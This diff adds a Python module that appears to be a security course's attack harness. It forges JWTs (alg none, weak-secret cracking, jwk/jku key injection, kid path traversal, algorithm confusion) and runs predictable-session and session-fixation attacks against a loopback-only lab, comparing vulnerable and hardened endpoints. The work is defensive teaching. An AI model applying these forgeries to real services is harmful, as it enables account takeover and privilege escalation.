@@ -1,0 +1,268 @@
+"""The attack battery: every attack of chapter 6, against its vulnerable endpoint and against the
+hardened lab, with what each said.
+
+Each attack builds its forged credential step by step with PyJWT, ``cryptography`` and HTTP
+requests to the lab (and nowhere else: every request goes through a client bound to the lab's
+loopback URL), sends it to the one vulnerable endpoint that has the matching mistake, then
+sends the same kind of forgery to the hardened endpoint, and records both answers.
+
+    >>> rows = run_battery(lab)       # lab = start_lab(vulnerable=True), or its base URL
+    >>> print(summary(rows))
+"""
+
+from __future__ import annotations
+
+import hashlib
+import hmac
+import json
+from collections.abc import Callable, Iterable
+from dataclasses import dataclass
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import jwt
+from cryptography.hazmat.primitives import serialization
+from cryptography.hazmat.primitives.asymmetric import ec
+from jwt.algorithms import ECAlgorithm
+from jwt.utils import base64url_encode
+
+from ..forge import encode_unsigned, tamper
+from ..users import PASSWORDS
+
+WORDLIST = Path(__file__).resolve().parents[1] / "data" / "wordlist.txt"
+
+
+def words(path: Path = WORDLIST) -> list[str]:
+    """The course's short word list of weak secrets."""
+    return [w for w in path.read_text().split("\n") if w and not w.startswith("#")]
+
+
+def crack_hs256(token: str, candidates: Iterable[str]) -> str | None:
+    """The secret among ``candidates`` that verifies this HS256 token's signature, or None.
+
+    Offline: only the token is needed, and each guess costs one HMAC.
+    """
+    signing_input, _, signature = token.rpartition(".")
+    expected = jwt.utils.base64url_decode(signature.encode())
+    for word in candidates:
+        if hmac.compare_digest(hmac.new(word.encode(), signing_input.encode(), hashlib.sha256).digest(), expected):
+            return word
+    return None
+
+
+def hs256_with_key_bytes(header: dict, claims: dict, key: bytes) -> str:
+    """A compact HS256 JWS over ``header`` and ``claims`` with ``key`` as the HMAC secret, built
+    with ``hmac`` because PyJWT rightly refuses some keys (a PEM public key, an empty key)."""
+    part = lambda obj: base64url_encode(json.dumps(obj, separators=(",", ":")).encode()).decode()  # noqa: E731
+    signing_input = f"{part({**header, 'alg': 'HS256'})}.{part(claims)}"
+    return signing_input + "." + base64url_encode(hmac.new(key, signing_input.encode(), hashlib.sha256).digest()).decode()
+
+
+@dataclass(frozen=True)
+class AttackResult:
+    """One attack: what the vulnerable endpoint and the hardened lab answered."""
+
+    attack: str
+    vulnerable: str  # e.g. "accepted: sub 'alice', roles ['admin']"
+    hardened: str  # e.g. "401 bad signature: ..."
+    rule: str  # what stops it
+    vulnerable_accepted: bool
+    hardened_refused: bool
+
+
+LOOPBACK = {"127.0.0.1", "localhost", "::1"}
+
+
+class Attacker:
+    """An attacker's tools against one lab: fresh HTTP clients (each a browser of its own) and
+    the lab's public information. ``target`` is a running lab or its base URL, on loopback only."""
+
+    def __init__(self, target) -> None:
+        url = target if isinstance(target, str) else target.url
+        if urlsplit(url).hostname not in LOOPBACK:
+            raise ValueError(f"the attack battery runs against a lab on this machine only, not {url!r}")
+        self._target = target
+        self.url = url.rstrip("/")
+        self.host = urlsplit(url).hostname
+
+    def client(self):
+        """A new HTTP client for the lab, with an empty cookie jar."""
+        from ..lab import LabHTTP
+
+        if isinstance(self._target, str):
+            return LabHTTP(self.url + "/")
+        return self._target.client()
+
+    def token(self, user: str = "bob", path: str = "/oauth/token", **body) -> str:
+        """A genuine token for ``user`` (the attacker's own account, by default)."""
+        response = self.client().post(path, json={"username": user, "password": PASSWORDS[user], **body})
+        response.raise_for_status()
+        return response.json()["access_token"]
+
+    def claims(self, token: str | None = None, **changes) -> dict:
+        """The claims of a genuine token of the attacker's, with ``changes`` (e.g. admin roles)."""
+        claims = jwt.decode(token or self.token(), options={"verify_signature": False})
+        return {**claims, **changes}
+
+    def call(self, path: str, token: str) -> tuple[int, dict]:
+        response = self.client().get(path, headers={"Authorization": f"Bearer {token}"})
+        return response.status_code, response.json()
+
+
+def _verdict(status: int, body: dict) -> str:
+    if status == 200:
+        return f"accepted: sub {body.get('sub')!r}, roles {body.get('roles')}"
+    return f"{status} {body.get('error_description', body.get('error', ''))}"
+
+
+def _jwt_attack(name: str, rule: str, vulnerable_path: str, forge: Callable[[Attacker], tuple[str, str]]):
+    """An attack whose forgery goes to a vulnerable endpoint, and its twin to the hardened /api/me."""
+
+    def run(attacker: Attacker) -> AttackResult:
+        against_vulnerable, against_hardened = forge(attacker)
+        v_status, v_body = attacker.call(vulnerable_path, against_vulnerable)
+        h_status, h_body = attacker.call("/api/me", against_hardened)
+        return AttackResult(name, _verdict(v_status, v_body), _verdict(h_status, h_body), rule,
+                            v_status == 200, h_status == 401)
+
+    run.attack = name
+    return run
+
+
+ADMIN = {"roles": ["admin"]}
+
+
+def _no_verify(a: Attacker):
+    forged = tamper(a.token(), **ADMIN)
+    return forged, forged
+
+
+def _alg_none(a: Attacker):
+    forged = encode_unsigned({"alg": "none", "typ": "at+jwt", "kid": "es256-1"}, a.claims(**ADMIN))
+    return forged, forged
+
+
+def _weak_secret(a: Attacker):
+    weak = a.token(path="/vulnerable/weak-secret/token")
+    secret = crack_hs256(weak, words())  # found: one HMAC per word, offline
+    forged = hs256_with_key_bytes({"typ": "at+jwt"}, a.claims(weak, **ADMIN), secret.encode())
+    # The hardened lab's HS256 token resists the same word list (32 random bytes), so the best
+    # the attacker has is the guess that worked elsewhere, under the lab's HS256 kid.
+    strong = a.token(alg="HS256")
+    guess = crack_hs256(strong, words()) or secret
+    header = jwt.get_unverified_header(strong)
+    against_hardened = hs256_with_key_bytes({"typ": "at+jwt", "kid": header["kid"]}, a.claims(strong, **ADMIN),
+                                            guess.encode())
+    return forged, against_hardened
+
+
+def _jwk_header(a: Attacker):
+    mine = ec.generate_private_key(ec.SECP256R1())
+    jwk = ECAlgorithm.to_jwk(mine.public_key(), as_dict=True)
+    forged = jwt.encode(a.claims(**ADMIN), mine, algorithm="ES256",
+                        headers={"typ": "at+jwt", "kid": "es256-1", "jwk": jwk})
+    return forged, forged
+
+
+def _jku(a: Attacker):
+    mine = ec.generate_private_key(ec.SECP256R1())
+    jwks = {"keys": [{**ECAlgorithm.to_jwk(mine.public_key(), as_dict=True), "kid": "attacker-1", "alg": "ES256"}]}
+    url = a.client().post("/vulnerable/uploads", json=jwks).json()["url"]  # hosted on the lab itself
+    forged = jwt.encode(a.claims(**ADMIN), mine, algorithm="ES256",
+                        headers={"typ": "at+jwt", "kid": "attacker-1", "jku": url})
+    return forged, forged
+
+
+def _kid_path(a: Attacker):
+    forged = hs256_with_key_bytes({"typ": "at+jwt", "kid": "../public/empty.txt"}, a.claims(**ADMIN), b"")
+    return forged, forged
+
+
+def _alg_confusion(a: Attacker):
+    jwks = a.client().get("/.well-known/jwks.json").json()  # the public key, as anyone can get it
+    public = jwt.PyJWK(next(k for k in jwks["keys"] if k["kid"] == "rs256-1")).key
+    pem = public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
+    forged = hs256_with_key_bytes({"typ": "at+jwt", "kid": "rs256-1"}, a.claims(**ADMIN), pem)
+    return forged, forged
+
+
+def _predictable_session(a: Attacker) -> AttackResult:
+    victim = a.client()
+    victim.post("/vulnerable/session/login", json={"username": "alice", "password": PASSWORDS["alice"]})
+    attacker = a.client()
+    mine = attacker.post("/vulnerable/session/login", json={"username": "bob", "password": PASSWORDS["bob"]}).json()["session"]
+    guess = str(int(mine) - 1)  # the session opened just before the attacker's
+    v = a.client().get("/vulnerable/session/me", headers={"Cookie": f"vsession={guess}"})
+    # Hardened: the lab's IDs are 256 random bits; the same "neighbour" guess goes nowhere.
+    real = a.client()
+    real.post("/session/login", json={"username": "bob", "password": PASSWORDS["bob"]})
+    own = real.cookies["session"]
+    neighbour = own[:-1] + ("A" if own[-1] != "A" else "B")
+    h = a.client().get("/session/me", headers={"Cookie": f"session={neighbour}"})
+    return AttackResult("predictable session ID", _verdict(v.status_code, v.json()), _verdict(h.status_code, h.json()),
+                        "OWASP Session Management: session ID entropy (>= 64 bits, from a CSPRNG)",
+                        v.status_code == 200, h.status_code == 401)
+
+
+def _fixation(a: Attacker) -> AttackResult:
+    attacker = a.client()
+    planted = attacker.get("/vulnerable/session/start").json()["session"]
+    victim = a.client()
+    victim.cookies.set("vsession", planted, domain=a.host, path="/vulnerable/")
+    victim.post("/vulnerable/session/login-keep-id", json={"username": "alice", "password": PASSWORDS["alice"]})
+    v = a.client().get("/vulnerable/session/me", headers={"Cookie": f"vsession={planted}"})
+    # Hardened: plant an ID of the attacker's own session; the login issues a new one.
+    own = a.client()
+    own.post("/session/login", json={"username": "bob", "password": PASSWORDS["bob"]})
+    planted_real = own.cookies["session"]
+    victim2 = a.client()
+    victim2.cookies.set("session", planted_real, domain=a.host, path="/")
+    victim2.post("/session/login", json={"username": "alice", "password": PASSWORDS["alice"]})
+    h = a.client().get("/session/me", headers={"Cookie": f"session={planted_real}"})
+    return AttackResult("session fixation", _verdict(v.status_code, v.json()), _verdict(h.status_code, h.json()),
+                        "OWASP Session Management: renew the session ID at login",
+                        v.status_code == 200, h.status_code == 401)
+
+
+ATTACKS: list[Callable[[Attacker], AttackResult]] = [
+    _jwt_attack("signature not verified", "RFC 7519 section 7.2: validate the JWS before any claim",
+                "/vulnerable/no-verify/me", _no_verify),
+    _jwt_attack("alg: none", "RFC 8725 sections 2.1 and 3.1: an algorithm allowlist, never none",
+                "/vulnerable/alg-none/me", _alg_none),
+    _jwt_attack("weak HMAC secret", "RFC 8725 section 3.5 and RFC 7518 section 3.2: 32+ random bytes",
+                "/vulnerable/weak-secret/me", _weak_secret),
+    _jwt_attack("key in the jwk header", "RFC 8725 section 3.10: keys come from the verifier's own set",
+                "/vulnerable/jwk-header/me", _jwk_header),
+    _jwt_attack("key from the jku URL", "RFC 8725 sections 2.9 and 3.10: never follow jku (SSRF)",
+                "/vulnerable/jku/me", _jku),
+    _jwt_attack("kid as a file path", "RFC 8725 section 3.10: a kid is looked up, never used as a path",
+                "/vulnerable/kid-path/me", _kid_path),
+    _jwt_attack("algorithm confusion", "RFC 8725 section 3.1: each key is used with exactly one algorithm",
+                "/vulnerable/alg-confusion/me", _alg_confusion),
+    _predictable_session,
+    _fixation,
+]
+
+
+def run_battery(target) -> list[AttackResult]:
+    """Run every attack against ``target`` (a lab started with ``vulnerable=True``, or its base
+    URL on loopback) and return one :class:`AttackResult` per attack."""
+    attacker = Attacker(target)
+    return [attack(attacker) for attack in ATTACKS]
+
+
+def table(results: list[AttackResult]) -> str:
+    """The results as text: attack, the vulnerable endpoint's answer, the hardened lab's answer."""
+    lines = []
+    for r in results:
+        lines.append(f"{r.attack}\n    vulnerable: {r.vulnerable}\n    hardened:   {r.hardened}\n    rule:       {r.rule}")
+    return "\n".join(lines)
+
+
+def summary(results: list[AttackResult]) -> str:
+    """One line per attack: did the vulnerable endpoint fall, did the hardened one hold?"""
+    width = max(len(r.attack) for r in results)
+    head = f"{'attack':<{width}}  vulnerable endpoint   hardened lab"
+    rows = [f"{r.attack:<{width}}  {'ACCEPTED (broken)' if r.vulnerable_accepted else 'refused':<20} "
+            f"{'refused (holds)' if r.hardened_refused else 'ACCEPTED'}" for r in results]
+    return "\n".join([head] + rows)
